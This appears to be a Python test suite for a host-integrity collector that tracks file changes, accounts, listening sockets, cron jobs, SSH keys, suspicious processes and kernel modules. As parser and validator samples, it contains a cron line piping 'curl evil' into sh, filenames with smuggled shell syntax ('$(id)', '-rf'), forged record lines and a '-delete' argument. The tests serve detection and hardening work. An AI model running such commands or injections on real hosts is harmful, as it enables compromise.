"""What a host is asked, with the real programs on real files; and what hostile answers become."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from datetime import UTC, datetime
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.acquisition.collecting import (
    Answer,
    Baseline,
    Collected,
    Reach,
    Run,
    Uncollected,
    compare,
    lines_of,
    read_options,
)
from apps.acquisition.collectors import hosts
from apps.acquisition.collectors.hosts import COLLECTOR
from apps.acquisition.reading import read
from apps.contracts import Refused

NOW = datetime(2026, 11, 29, tzinfo=UTC)
NOTHING = dict.fromkeys(
    (
        "packages",
        "accounts",
        "keys",
        "setuid",
        "sockets",
        "schedules",
        "units",
        "processes",
        "modules",
    ),
    False,
)


def here(argv: Sequence[str]) -> Answer:
    """This machine, answering as one over SSH does."""
    done = subprocess.run(argv, capture_output=True, check=False, timeout=60)
    text = done.stdout.decode("utf-8", "replace").replace("\0", "\ufffd")
    return Answer(done.returncode, text, done.stderr.decode("utf-8", "replace"))


def collect(run: Run = here, **options: Any) -> Collected:
    @contextmanager
    def on_host(name: str) -> Iterator[Run]:
        yield run

    asked = read_options(COLLECTOR, {**NOTHING, "folders": [], **options})
    return COLLECTOR.collect("web-01", asked, Reach(on_host=on_host))


def changes(before: Baseline, collected: Collected) -> tuple[dict[str, dict[str, Any]], Baseline]:
    documents, after = compare(before, collected, NOW)
    return {d["file.path"]: d for d in documents}, after


def test_files_are_a_baseline_first_and_then_what_changed(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/kept").write_bytes(b"kept")
    (tmp_path / "gone").write_bytes(b"gone")
    (tmp_path / "changed").write_bytes(b"one")
    (tmp_path / "link").symlink_to("kept")
    found, known = changes({}, collect(folders=[str(tmp_path)]))
    assert {d["event.action"] for d in found.values()} == {"baseline"}
    kept = found[f"{tmp_path}/sub/kept"]
    assert kept["file.hash.sha256"] == sha256(b"kept").hexdigest()
    assert kept["file.size"] == 4
    assert kept["file.mode"] == f"{(tmp_path / 'sub/kept').stat().st_mode & 0o7777:o}"
    assert found[f"{tmp_path}/link"]["file.target_path"] == "kept"
    assert changes(known, collect(folders=[str(tmp_path)]))[0] == {}
    (tmp_path / "gone").unlink()
    (tmp_path / "new").write_bytes(b"new")
    before = (tmp_path / "changed").stat()
    (tmp_path / "changed").write_bytes(b"two")
    os.utime(tmp_path / "changed", ns=(before.st_atime_ns, before.st_mtime_ns))  # and hides it
    (tmp_path / "sub/kept").chmod(0o4755)
    found, _known = changes(known, collect(folders=[str(tmp_path)]))
    said = {path.removeprefix(f"{tmp_path}/"): d["event.action"] for path, d in found.items()}
    assert said == {"gone": "removed", "new": "added", "changed": "changed", "sub/kept": "changed"}
    assert found[f"{tmp_path}/changed"]["changed"] == "file.hash.sha256"
    assert found[f"{tmp_path}/sub/kept"]["changed"] == "file.mode"
    assert found[f"{tmp_path}/gone"]["file.hash.sha256"] == sha256(b"gone").hexdigest()


def test_names_that_could_pass_for_others_are_left_out_and_counted(tmp_path: Path) -> None:
    forged = "f\t9\t4755\troot\troot\t0\t\t/etc/forged"
    for name in ("a b", "tab\there", "quo'te\"$(id)`;", "back\\slash", "é", "-rf", "line\u2028sep"):
        (tmp_path / name).write_bytes(name.encode())
    folder = tmp_path / f"x\n{forged}".replace("/", "_")
    folder.mkdir()
    (folder / "inside").write_bytes(b"")
    (tmp_path / "evil").symlink_to("a\n" + forged)
    found, _known = changes({}, collect(folders=[str(tmp_path)]))
    names = {path.removeprefix(f"{tmp_path}/") for path in found}
    assert names == {
        "a b", "tab\there", "quo'te\"$(id)`;", "back\\slash", "é", "-rf", "line\u2028sep",
    }  # fmt: skip
    for name in names:
        assert found[f"{tmp_path}/{name}"]["file.hash.sha256"] == sha256(name.encode()).hexdigest()
    assert "1 names" in " ".join(collect(folders=[str(tmp_path)]).notes)


def test_a_file_that_is_too_large_is_listed_and_not_read(tmp_path: Path) -> None:
    with (tmp_path / "large").open("wb") as file:
        file.truncate(3 * 1024 * 1024)
    (tmp_path / "fits").write_bytes(bytes(1024 * 1024))
    found, _known = changes({}, collect(folders=[str(tmp_path)], megabytes=1))
    assert "file.hash.sha256" not in found[f"{tmp_path}/large"]
    assert found[f"{tmp_path}/large"]["file.size"] == 3 * 1024 * 1024
    assert found[f"{tmp_path}/fits"]["file.hash.sha256"]


def test_a_folder_that_went_away_lost_its_files(tmp_path: Path) -> None:
    folder = tmp_path / "www"
    folder.mkdir()
    (folder / "index.php").write_bytes(b"<?php")
    _found, known = changes({}, collect(folders=[str(folder)]))
    (folder / "index.php").unlink()
    folder.rmdir()
    got = collect(folders=[str(folder)])
    found, _known = changes(known, got)
    assert found[f"{folder}/index.php"]["event.action"] == "removed"
    assert f"There is no folder {folder}." in got.notes


def test_what_a_host_does_not_answer_is_noted_and_not_gone(tmp_path: Path) -> None:
    (tmp_path / "a").write_bytes(b"a")
    _found, known = changes({}, collect(folders=[str(tmp_path)]))

    def mute(argv: Sequence[str]) -> Answer:
        return Answer(124, "", "cut off: it did not end in time")

    got = collect(mute, folders=[str(tmp_path)], packages=True)
    assert got.failed
    assert changes(known, got)[0] == {}
    assert "cut off" in " ".join(got.notes)


def test_no_question_is_asked_after_the_time_is_over(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Sequence[str]] = []
    monkeypatch.setattr(hosts, "SECONDS", -1)
    got = collect(lambda argv: (asked.append(argv), Answer(0))[1], packages=True, folders=["/etc"])
    assert asked == []
    assert got.failed


def test_packages_accounts_and_schedules_of_this_machine_are_read() -> None:
    got = collect(packages=True, accounts=True, schedules=True)
    by = {}
    for seen in got.observations:
        by.setdefault(seen.dataset, {})[seen.key] = seen.fields
    package = next(f for key, f in by["host.package"].items() if key.startswith("coreutils:"))
    version = subprocess.run(
        ["dpkg-query", "-W", "-f", "${Version}", "coreutils"], capture_output=True, text=True
    ).stdout
    assert package["package.version"] == version
    assert by["host.account"]["root"]["user.id"] == "0"
    assert by["host.account"]["root"]["user.home"] == "/root"
    assert {"packages", "accounts", "schedules"} <= got.groups


def test_an_account_is_kept_without_what_a_password_field_may_hold() -> None:
    [seen] = hosts.accounts("eve:$6$salt$hash:0:0:Eve,,:/:/bin/sh\nbroken\n", "sudo:x:27:eve,bob")
    assert "hash" not in str(seen)
    assert seen.fields["user.groups"] == "sudo"


def test_sockets_schedules_and_units_are_read_from_what_the_programs_say() -> None:
    said = (
        'tcp LISTEN 0 128 0.0.0.0:22 0.0.0.0:* users:(("sshd",pid=1,fd=3))\n'
        'udp UNCONN 0 0 127.0.0.53%lo:53 0.0.0.0:* users:(("systemd-resolve",pid=9,fd=1))\n'
        "tcp LISTEN 0 4096 [::]:80 [::]:*\nnonsense\n"
    )
    seen = [o.fields for o in hosts.sockets(said)]
    assert [(f["destination.ip"], f["destination.port"], f["process.name"]) for f in seen] == [
        ("0.0.0.0", 22, "sshd"), ("127.0.0.53", 53, "systemd-resolve"), ("::", 80, ""),
    ]  # fmt: skip
    [line] = hosts.schedules("/etc/cron.d/x\ufffd* * * * * root curl evil|sh\nno name\n")
    assert line.fields["file.path"] == "/etc/cron.d/x"
    assert line.fields["process.command_line"] == "* * * * * root curl evil|sh"
    [unit] = hosts.units("ssh.service enabled enabled\n\n0 unit files listed.\n")
    assert (unit.key, unit.fields["service.state"]) == ("ssh.service", "enabled")


def test_keys_that_may_log_in_are_told_by_their_fingerprint(tmp_path: Path) -> None:
    key = tmp_path / "key"
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "eve", "-f", key], check=True
    )
    public = key.with_suffix(".pub").read_text().strip()
    known = subprocess.run(
        ["ssh-keygen", "-l", "-f", key.with_suffix(".pub")],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()[1]
    said = f'/home/anna/.ssh/authorized_keys\ufffdcommand="/bin/x",no-pty {public}\nnonsense\n'
    [seen] = hosts.keys(said + "/root/.ssh/authorized_keys\ufffdssh-rsa AAAA!!\n")
    assert seen.fields["key.fingerprint"] == known
    assert (seen.fields["user.name"], seen.fields["key.comment"]) == ("anna", "eve")
    assert seen.fields["key.options"] == 'command="/bin/x",no-pty'


def test_only_processes_from_where_none_should_be_are_told() -> None:
    said = (
        "/proc/1/exe\t/usr/lib/systemd/systemd\n/proc/7/exe\t/usr/sbin/nginx (deleted)\n"
        "/proc/8/exe\t/dev/shm/.x\n/proc/9/exe\t/dev/shm/.x\n/proc/2/exe\t\n"
        "/proc/10/exe\t/memfd:kworker (deleted)\n/proc/11/exe\t/home/eve/m (deleted)\n"
        "/proc/12/exe\t/memfd:runc_cloned:/proc/self/exe (deleted)\n"
    )
    seen = {o.fields["process.executable"]: o.fields for o in hosts.processes(said)}
    assert {path: f["process.state"] for path, f in seen.items()} == {
        "/dev/shm/.x": "in a temporary folder",
        "/memfd:kworker": "in memory alone",
        "/home/eve/m": "deleted",
    }
    assert seen["/dev/shm/.x"]["message"].endswith("as process 8, 9.")


def test_modules_and_packages_of_files_are_read() -> None:
    said = (
        "nf_tables 286720 12 - Live 0xffffffffc0\nevil 16384 0 - Live 0xffffffffc1 (OE)\n"
        "loop 32768 0 - Live 0x0\nshort\n"
    )
    seen = [(o.key, o.fields["module.taints"]) for o in hosts.modules(said)]
    assert seen == [("nf_tables", ""), ("evil", "OE"), ("loop", "")]
    said = (
        "coreutils: /bin/ls\nlibc6:amd64, libc6:i386: /lib/x.so\nbash: /usr/bin/bash\n"
        "diversion by dash from: /bin/sh\ndpkg-query: no path found\n"
    )
    found = hosts.owners(said)
    assert found["/usr/bin/ls"] == found["/bin/ls"] == "coreutils"
    assert (found["/usr/lib/x.so"], found["/usr/bin/bash"]) == ("libc6", "bash")
    assert "/bin/sh" not in found


def test_files_of_this_machine_are_told_with_their_packages_and_those_that_run_as_their_owner() -> (
    None
):
    got = collect(setuid=True, packages=True, folders=["/usr/sbin"], processes=True, modules=True)
    by = {(o.group, o.key): o.fields for o in got.observations}
    assert by["setuid", "/usr/bin/passwd"]["file.mode"] == "4755"
    assert by["setuid", "/usr/bin/passwd"]["package.name"] == "passwd"
    assert by["/usr/sbin", "/usr/sbin/useradd"]["package.name"] == "passwd"
    assert "package.name" not in next(o for o in got.observations if o.group == "setuid").compared
    assert {"setuid", "processes", "modules", "packages", "/usr/sbin"} <= got.groups
    assert not got.notes


def test_packages_of_rpm_are_read_where_there_is_no_dpkg() -> None:
    def redhat(argv: Sequence[str]) -> Answer:
        if argv[0] == "/usr/bin/rpm":
            return Answer(0, "bash\t0:5.2-1\tx86_64\tii\n")
        return Answer(127, "", "not found")

    got = collect(redhat, packages=True)
    assert [o.fields["package.version"] for o in got.observations] == ["0:5.2-1"]


def test_records_of_hosts_have_the_columns_of_the_schema(tmp_path: Path) -> None:
    (tmp_path / "a").write_bytes(b"a")
    documents, _known = compare({}, collect(folders=[str(tmp_path)], accounts=True), NOW)
    frame = read(lines_of(documents), protocol="observed", host_name="web-01").frame
    rows = {row["event.dataset"]: row for row in frame.iter_rows(named=True)}
    file = rows["host.file"]
    assert (file["file.path"], file["file.size"]) == (f"{tmp_path}/a", 1)
    assert file["file.hash.sha256"] == sha256(b"a").hexdigest()
    assert (file["event.category"], file["event.action"]) == ("file", "baseline")
    assert file["host.name"] == "web-01"
    assert '"file.mode":"' in file["labels"]
    assert rows["host.account"]["event.category"] == "iam"


@pytest.mark.parametrize(
    ("target", "folders"),
    [
        ("", ["/etc"]), ("a b", ["/etc"]), ("-x", ["/etc"]), ("web", ["etc"]), ("web", ["/a/../b"]),
        ("web", ["/a\nb"]), ("web", ["/a*"]), ("web", ["-delete"]),
    ],
)  # fmt: skip
def test_what_cannot_be_watched_is_refused(target: str, folders: list[str]) -> None:
    with pytest.raises(Refused):
        COLLECTOR.check(target, read_options(COLLECTOR, {"folders": folders}))


def test_without_a_way_to_hosts_nothing_is_collected() -> None:
    with pytest.raises(Uncollected):
        COLLECTOR.collect("web-01", read_options(COLLECTOR, {}), Reach())


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet='f\tl0123456789:/\n \\\ufffd[]%x(",pid=tcpud', max_size=200))
def test_no_answer_breaks_what_reads_it(said: str) -> None:
    for seen in (
        hosts.files(said, said, "/"), hosts.packages(said), hosts.accounts(said, said),
        hosts.sockets(said), hosts.schedules(said), hosts.units(said), hosts.keys(said),
        hosts.processes(said), hosts.modules(said),
    ):  # fmt: skip
        for observation in seen:
            assert observation.dataset.startswith("host.")
